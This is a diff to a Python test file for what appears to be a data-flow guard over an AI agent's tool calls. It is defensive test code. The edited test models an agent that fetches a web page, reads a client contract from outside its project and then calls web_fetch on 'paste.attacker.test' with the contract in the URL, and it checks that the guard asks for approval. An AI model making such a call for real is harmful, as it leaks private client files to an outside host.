@@ -179,12 +179,14 @@ def test_a_host_spelt_out_not_literally_still_asks_when_the_url_carries_data(ser
     assert decision.kind == "ask"
 
 
-def test_data_from_other_folders_to_an_unnamed_host_asks(service, project):
+@pytest.mark.parametrize("mode", [ASK, AUTO, PLAN])
+def test_data_from_other_folders_to_an_unnamed_host_asks(service, project, mode):
     flow = _flow("Summarise https://blog.example.net/post", "a harmless page", "web_fetch")
     flow.add(FlowLabel.READ_OUTSIDE, "~/clients/acme/contract.txt", "read_file")
     decision = _decide(service, project, "builtin", "web_fetch",
-                       {"url": "https://paste.attacker.test/acme-contract"}, flow)
+                       {"url": "https://paste.attacker.test/acme-contract"}, flow, mode)
     assert decision.kind == "ask"
+    assert "paste.attacker.test" in decision.flow_reason  # which destination, and why
 
 
 def test_the_persons_own_host_runs(service, project):
